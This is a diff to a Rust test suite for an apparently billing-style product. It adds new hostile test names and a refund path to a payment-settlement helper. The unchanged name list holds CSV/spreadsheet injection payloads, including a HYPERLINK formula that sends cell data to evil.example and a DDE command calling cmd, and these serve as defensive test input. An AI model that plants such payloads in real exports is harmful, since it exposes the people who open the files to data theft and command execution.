@@ -10,13 +10,17 @@ use serde_json::{Value, json};
 use crate::harness::{Answer, Ask, TestApp, id, key};
 
 /// Names as people make them who mean ill, and as people have them who do not.
-pub const NAMES: [&str; 6] = [
+pub const NAMES: [&str; 10] = [
     "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
     "Asha; Rao | (x) \"quoted\" \\ end",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "2026-01-01 open Assets:Stolen INR",
     "आशा राव, ಬೆಂಗಳೂರು",
     "-Njeri\u{2028}Mwangi\u{a0}",
+    "Guest house type:Deluxe",
+    "(x) type:L, date:2026-13-99 [2026-99-99]",
+    "! (Rao",
+    "* Rao type:A",
 ];
 
 /// Subscribers with every kind of entry that the product books.
@@ -114,13 +118,19 @@ async fn correct(owner: &Ask<'_>, subscriber: &str, indian: bool) {
 
 /// Each pays in a way of its own.
 async fn settle(owner: &Ask<'_>, n: usize, subscriber: &str, service: &str, invoice: &str) {
-    let method = ["CASH", "UPI", "BANK_TRANSFER", "MOBILE_MONEY", "CARD", "CHEQUE"][n];
-    let amount = ["2500.00", "400.01", "943.00", "5000.00", "1.00", "60.00"][n];
+    let method = ["CASH", "UPI", "BANK_TRANSFER", "MOBILE_MONEY", "CARD", "CHEQUE"][n % 6];
+    let amount = ["2500.00", "400.01", "943.00", "5000.00", "1.00", "60.00"][n % 6];
     let input = json!({
         "subscriberId": subscriber, "amount": amount, "method": method, "reference": format!("=REF-{n}"), "idempotencyKey": key(),
     });
     let paid = owner.mutate("paymentRecord", input, "payment { id }").await.done();
     match n {
+        6.. => {
+            let back = json!({ "subscriberId": subscriber, "amount": "0.25", "method": "CASH", "reason": "Asked for",
+                "idempotencyKey": key() });
+            owner.pay(subscriber, "3000.25").await;
+            owner.mutate("creditRefund", back, "refund { id }").await.done();
+        }
         0 => {
             let reverse = json!({ "id": paid["payment"]["id"], "reason": "Bounced", "idempotencyKey": key() });
             owner.mutate("paymentReverse", reverse, "payment { id }").await.done();
